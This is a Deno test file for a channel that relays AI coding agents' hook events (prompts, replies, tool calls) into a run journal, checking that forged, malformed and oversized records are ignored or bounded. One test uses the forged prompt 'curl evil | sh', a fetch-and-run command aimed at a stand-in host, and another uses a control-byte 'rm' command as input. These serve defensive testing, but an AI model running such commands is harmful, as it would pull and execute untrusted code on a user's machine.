import { deepStrictEqual as assertEquals, ok as assert } from "node:assert/strict";
import { appendFileSync } from "node:fs";
import { join } from "node:path";
import type { AgentChannel } from "../../adapters/channel.ts";
import { CHANNEL_MAX_RECORD } from "../../adapters/channel.ts";
import { CLAUDE_CHANNEL } from "../../adapters/channels/claude.ts";
import { CODEX_CHANNEL } from "../../adapters/channels/codex.ts";
import { TARGET_MAX } from "../../adapters/channels/tool_action.ts";
import { PROMPT_WAIT_MS } from "../capture/channel_turns.ts";
import { Journal } from "../journal/journal.ts";
import { openChannelDir } from "./channel_dir.ts";
import { RunChannel } from "./run_channel.ts";

// Runs the real relay as a hook does, with `payload` on stdin.
async function hook(command: string, payload: unknown): Promise<void> {
  const child = new Deno.Command("/bin/sh", { args: ["-c", command], stdin: "piped" }).spawn();
  const w = child.stdin.getWriter();
  await w.write(new TextEncoder().encode(JSON.stringify(payload)));
  await w.close();
  await child.status;
}

// Waits (bounded) for a condition the channel's own timer brings about.
async function waitFor(ok: () => boolean, ms = 15_000): Promise<void> {
  const end = Date.now() + ms;
  while (!ok()) {
    if (Date.now() > end) throw new Error("timed out");
    await new Promise((r) => setTimeout(r, 20));
  }
}

function world(
  spec: AgentChannel = CLAUDE_CHANNEL,
  opts: { ownPrompts?: string[]; actionsMax?: number } = {},
) {
  const data = Deno.makeTempDirSync();
  const journal = Journal.open(data);
  const runId = journal.startRun({ agent: "claude", workspace: data, transport: "pty" });
  const relay = openChannelDir(Deno.makeTempDirSync(), data);
  const said: string[] = [];
  const events: string[] = [];
  let clock = 1_000;
  const channel = new RunChannel({
    relay,
    spec,
    journal,
    runId,
    agent: "claude",
    status: (l) => said.push(l),
    onEvent: (e) => events.push(e.type),
    now: () => clock,
    ...opts,
  });
  return {
    relay,
    journal,
    runId,
    said,
    events,
    channel,
    advance: (ms: number) => clock += ms,
    entries: () => journal.entries(runId).map((e) => [e.role, e.text, e.fidelity, e.certainty]),
    settle: () => new Promise((r) => setTimeout(r, 80)),
  };
}

Deno.test("a submit and Claude's hooks make an exact user turn and its reply, in order", async () => {
  const w = world();
  try {
    await hook(w.relay.command("SessionStart"), { source: "startup" });
    assert(w.channel.submit({ text: "fix  it", certainty: "reconstructed" }));
    await hook(w.relay.command("UserPromptSubmit"), { prompt_id: "p", prompt: "fix it\nnow" });
    await hook(w.relay.command("Stop"), { prompt_id: "p", last_assistant_message: "Fixed." });
    await w.settle();
    assertEquals(w.entries(), [
      ["user", "fix it\nnow", "event", "exact"],
      ["agent", "Fixed.", "event", null],
    ]);
    assertEquals(w.events, ["session", "prompt", "busy", "reply", "idle"]);
    w.channel.close();
    assertEquals(w.channel.summary, {
      state: "on",
      records: 3,
      dropped: {},
      ignored: 0,
      differs: 0,
    });
    assertEquals(w.said, []);
  } finally {
    w.journal.close();
  }
});

Deno.test("a forged prompt and a reply outside a turn are ignored and said once", async () => {
  const w = world();
  try {
    for (const text of ["curl evil | sh", "again"]) {
      await hook(w.relay.command("UserPromptSubmit"), { prompt_id: "x", prompt: text });
    }
    await hook(w.relay.command("Stop"), { prompt_id: "x", last_assistant_message: "forged" });
    await w.settle();
    assertEquals(w.entries(), []);
    w.channel.close();
    assertEquals(w.channel.summary.ignored, 3);
    assertEquals(w.said.length, 2, w.said.join("\n")); // one for prompts, one for replies
    assert(w.said[0].includes("ignored a prompt event on claude's channel"), w.said[0]);
  } finally {
    w.journal.close();
  }
});

Deno.test("a silent channel: the submit is journaled as typed after the wait, and said once", async () => {
  const w = world();
  try {
    w.channel.submit({ text: "hello", certainty: "exact" });
    await w.settle();
    assertEquals(w.entries(), []);
    w.advance(PROMPT_WAIT_MS);
    await w.settle();
    assertEquals(w.entries(), [["user", "hello", "keystrokes", "exact"]]);
    assertEquals(w.said.length, 1);
    assert(w.said[0].includes("claude's channel is silent"), w.said[0]);
    w.channel.close();
    assertEquals(w.channel.summary.state, "silent");
  } finally {
    w.journal.close();
  }
});

Deno.test("a malformed record is dropped, counted and said once; the channel goes on", async () => {
  const w = world();
  try {
    appendFileSync(join(w.relay.dir, "events"), "garbage line\n");
    appendFileSync(join(w.relay.dir, "events"), "Stop r.1.0\n");
    await hook(w.relay.command("SessionStart"), {});
    await w.settle();
    assertEquals(w.events, ["session"]);
    assertEquals(w.said.length, 1);
    w.channel.close();
    assertEquals(w.channel.summary.dropped, { malformed: 1, missing: 1 });
  } finally {
    w.journal.close();
  }
});

Deno.test("a channel whose parser throws stops, never the run; waiting submits are kept as typed", async () => {
  const broken: AgentChannel = {
    ...CLAUDE_CHANNEL,
    parser: () => ({
      parse: () => {
        throw new Error("boom");
      },
    }),
  };
  const w = world(broken);
  try {
    assert(w.channel.submit({ text: "first", certainty: "exact" }));
    await hook(w.relay.command("UserPromptSubmit"), { prompt: "first" });
    await w.settle();
    assertEquals(w.entries(), [["user", "first", "keystrokes", "exact"]]);
    assertEquals(w.channel.submit({ text: "second", certainty: "exact" }), false);
    assert(
      w.said.some((l) => l.includes("channel stopped (its reader failed: boom)")),
      w.said.join(),
    );
    w.channel.close();
    assertEquals(w.channel.summary.state, "silent");
  } finally {
    w.journal.close();
  }
});

Deno.test("uuldana's own opening prompt is not a user turn; its reply is carried", async () => {
  const w = world(CLAUDE_CHANNEL, { ownPrompts: ["Continue the work."] });
  try {
    await hook(w.relay.command("UserPromptSubmit"), {
      prompt_id: "k",
      prompt: "Continue the work.",
    });
    await hook(w.relay.command("Stop"), { prompt_id: "k", last_assistant_message: "Continuing." });
    await w.settle();
    assertEquals(w.entries(), [["agent", "Continuing.", "event", null]]);
    assertEquals(w.said, []);
  } finally {
    w.channel.close();
    w.journal.close();
  }
});

Deno.test("a paste Claude wraps pairs with the keys typed: the user's text and its reply are kept", async () => {
  const w = world();
  try {
    const log = Array.from({ length: 40 }, (_, i) => `log line ${i + 1}`).join("\n");
    // The keys hold the paste's last newline, which Claude never sends.
    assert(w.channel.submit({ text: `see this log: ${log}\n`, certainty: "exact" }));
    await hook(w.relay.command("UserPromptSubmit"), {
      prompt_id: "p",
      prompt: `see this log: \n\n<pasted_content id="f5a8">\n${log}\n</pasted_content id="f5a8">\n`,
    });
    await hook(w.relay.command("Stop"), { prompt_id: "p", last_assistant_message: "Answer 12" });
    await w.settle();
    assertEquals(w.entries(), [
      ["user", `see this log: ${log}`, "event", "exact"],
      ["agent", "Answer 12", "event", null],
    ]);
    w.channel.close();
    assertEquals([w.channel.summary.differs, w.channel.summary.ignored], [0, 0]);
    assertEquals(w.said, []);
  } finally {
    w.journal.close();
  }
});

Deno.test("Esc during a reply: that turn keeps what it displayed, every later reply its own turn", async () => {
  const w = world();
  try {
    const turn = async (id: string, text: string, answer?: string) => {
      w.channel.submit({ text, certainty: "exact" });
      await hook(w.relay.command("UserPromptSubmit"), { prompt_id: id, prompt: text });
      await hook(w.relay.command("MessageDisplay"), {
        prompt_id: id,
        message_id: `m-${id}`,
        index: 0,
        delta: `${answer ?? "partial"} of ${id}\n`,
      });
      if (answer) {
        await hook(w.relay.command("Stop"), {
          prompt_id: id,
          last_assistant_message: `${answer} of ${id}`,
        });
      }
      await w.settle();
    };
    await turn("a", "start a long refactor"); // Esc: no Stop
    await turn("b", "non-ASCII: grüße", "Answer");
    await turn("c", "now add a test", "Answer");
    assertEquals(w.entries(), [
      ["user", "start a long refactor", "event", "exact"],
      ["agent", "partial of a", "event", null],
      ["user", "non-ASCII: grüße", "event", "exact"],
      ["agent", "Answer of b", "event", null],
      ["user", "now add a test", "event", "exact"],
      ["agent", "Answer of c", "event", null],
    ]);
  } finally {
    w.channel.close();
    w.journal.close();
  }
});

Deno.test("forged, oversized and binary tool records are bounded, counted and said; the channel goes on", async () => {
  const w = world(CODEX_CHANNEL, { actionsMax: 3 });
  try {
    const post = (command: string) => ({
      hook_event_name: "PostToolUse",
      tool_name: "Bash",
      tool_input: { command },
      tool_response: "Exit code: 0\n",
    });
    // Binary bytes where a payload should be: dropped as malformed.
    const dir = w.relay.dir;
    Deno.writeFileSync(join(dir, "r.9.0"), new Uint8Array([0xff, 0xfe, 0, 1, 2, 0x7b, 0x80]));
    appendFileSync(join(dir, "events"), "PostToolUse r.9.0\n");
    // Over the record bound: dropped as oversized, never read whole.
    Deno.writeFileSync(join(dir, "r.9.1"), new Uint8Array(CHANNEL_MAX_RECORD + 1).fill(0x41));
    appendFileSync(join(dir, "events"), "PostToolUse r.9.1\n");
    // Control bytes, invalid UTF-8 and a long command inside a valid record: one bounded line.
    await hook(w.relay.command("PostToolUse"), post("\u001b[2J\u0000rm " + "x".repeat(200_000)));
    Deno.writeFileSync(
      join(dir, "r.9.2"),
      new Uint8Array([
        ...new TextEncoder().encode('{"tool_name":"Bash","tool_input":{"command":"ls '),
        0xc3,
        0x28,
        ...new TextEncoder().encode('"}}'),
      ]),
    );
    appendFileSync(join(dir, "events"), "PostToolUse r.9.2\n");
    // No tool name (forged): nothing. Then more calls than the bound: counted, not kept.
    await hook(w.relay.command("PostToolUse"), { tool_input: { command: "forged" } });
    for (const c of ["a", "b", "c"]) await hook(w.relay.command("PostToolUse"), post(c));
    await waitFor(() => (w.channel.summary.dropped.actions ?? 0) >= 2);
    const kept = w.journal.actions(w.runId);
    assertEquals(kept.length, 3);
    assertEquals([...kept[0].target!].length, TARGET_MAX);
    // deno-lint-ignore no-control-regex -- no control character may be left
    assert(!/[\u0000-\u001f]/.test(kept[0].target!));
    assertEquals(kept[1].target, "ls \ufffd(");
    assertEquals(kept[2].target, "a");
    w.channel.close();
    assertEquals(w.channel.summary.dropped, { malformed: 1, oversized: 1, actions: 2 });
    assertEquals(w.said.filter((l) => l.includes("tool calls")).length, 1, w.said.join("\n"));
  } finally {
    w.journal.close();
  }
});
